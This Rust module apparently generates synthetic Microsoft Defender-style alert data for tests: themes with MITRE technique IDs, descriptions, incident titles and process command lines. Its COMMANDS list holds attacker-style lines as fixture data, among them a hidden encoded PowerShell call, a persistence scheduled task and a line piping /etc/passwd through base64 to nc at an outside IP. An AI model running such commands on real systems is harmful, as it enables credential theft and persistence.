//! Prose of the data: titles, descriptions, command lines.
//!
//! Some of it looks like what a link rewriter searches for, and is data that must come through untouched.

use super::names::{draw, pick};

/// What an alert is about.
#[derive(Debug, Clone, Copy)]
pub(super) struct Theme {
    pub(super) title: &'static str,
    pub(super) category: &'static str,
    pub(super) technique: &'static str,
    pub(super) source: &'static str,
    pub(super) family: Option<&'static str>,
}

/// The theme of alert `index`.
pub(super) fn theme(index: u64) -> Theme {
    pick(draw(index, "theme"), &THEMES)
}

/// The description of alert `index`.
pub(super) fn description(index: u64) -> String {
    let theme = theme(index);
    match index % 29 {
        3 => format!("{} Fetch it with GET https://api.security.microsoft.com/api/alerts/{index} and compare.", theme.title),
        7 => format!("The process called https://api-eu.security.microsoft.com/api/incidents?$top=1 from host {index}."),
        11 => r#"A script parsed "@odata.nextLink": "https://api.securitycenter.microsoft.com/api/machines?$skip=10" by hand."#
            .to_owned(),
        13 => "Skript „Überprüfung“ startete C:\\Temp\\日本語\\\"quoted\".exe — \u{1f6e1} blockiert.".to_owned(),
        17 => "Line one.\nLine two\twith a tab, a slash / and a backslash \\.".to_owned(),
        _ => format!("{} was detected on this device. Review the evidence and isolate the device if needed.", theme.title),
    }
}

/// The command line of process `index`.
pub(super) fn command_line(index: u64) -> String {
    let template = pick(draw(index, "command"), &COMMANDS);
    template.replace('#', &(1000 + index % 9000).to_string())
}

/// The title of an incident whose first alert is about `theme`, with `alerts` alerts.
pub(super) fn incident_name(theme: Theme, alerts: usize, machine: &str) -> String {
    match alerts {
        1 => format!("{} on one endpoint", theme.title),
        2..=4 => format!(
            "Multi-stage incident involving {} on {machine}",
            theme.category
        ),
        _ => format!(
            "Multi-stage incident involving {} & Lateral movement on multiple endpoints",
            theme.category
        ),
    }
}

const THEMES: [Theme; 10] = [
    Theme {
        title: "Suspicious PowerShell command line",
        category: "Execution",
        technique: "T1059.001",
        source: "WindowsDefenderAtp",
        family: None,
    },
    Theme {
        title: "'Wacatac' malware was prevented",
        category: "Malware",
        technique: "T1204.002",
        source: "WindowsDefenderAv",
        family: Some("Wacatac"),
    },
    Theme {
        title: "Suspicious connection to \"raw\" IP address",
        category: "CommandAndControl",
        technique: "T1071.001",
        source: "CustomDetection",
        family: None,
    },
    Theme {
        title: "Sensitive credential memory read",
        category: "CredentialAccess",
        technique: "T1003.001",
        source: "WindowsDefenderAtp",
        family: Some("Mimikatz"),
    },
    Theme {
        title: "Anomalous scheduled task created",
        category: "Persistence",
        technique: "T1053.005",
        source: "WindowsDefenderAtp",
        family: None,
    },
    Theme {
        title: "Password spray from one host",
        category: "InitialAccess",
        technique: "T1110.003",
        source: "CustomDetection",
        family: None,
    },
    Theme {
        title: "Ransomware behavior blocked",
        category: "Ransomware",
        technique: "T1486",
        source: "WindowsDefenderAv",
        family: Some("Lockbit"),
    },
    Theme {
        title: "Possible data exfiltration to 文件共享",
        category: "Exfiltration",
        technique: "T1567.002",
        source: "CustomerTI",
        family: None,
    },
    Theme {
        title: "Remote service started over \\\\host\\IPC$",
        category: "LateralMovement",
        technique: "T1021.002",
        source: "WindowsDefenderAtp",
        family: None,
    },
    Theme {
        title: "Suspicious file dropped",
        category: "SuspiciousActivity",
        technique: "T1105",
        source: "WindowsDefenderSmartScreen",
        family: None,
    },
];

const COMMANDS: [&str; 6] = [
    r#"powershell.exe -NoProfile -EncodedCommand SQBFAFgA# -WindowStyle "hidden""#,
    r"C:\Windows\System32\cmd.exe /c copy \\fileserver\share\tool#.exe C:\Temp\",
    "curl https://api.security.microsoft.com/api/machines?$top=# -o out.json",
    "rundll32.exe C:\\Users\\Public\\lib#.dll,Start",
    r#"schtasks /create /tn "Update #" /tr C:\ProgramData\u.exe /sc daily"#,
    "bash -c 'cat /etc/passwd | base64 | nc 198.51.100.7 #'",
];
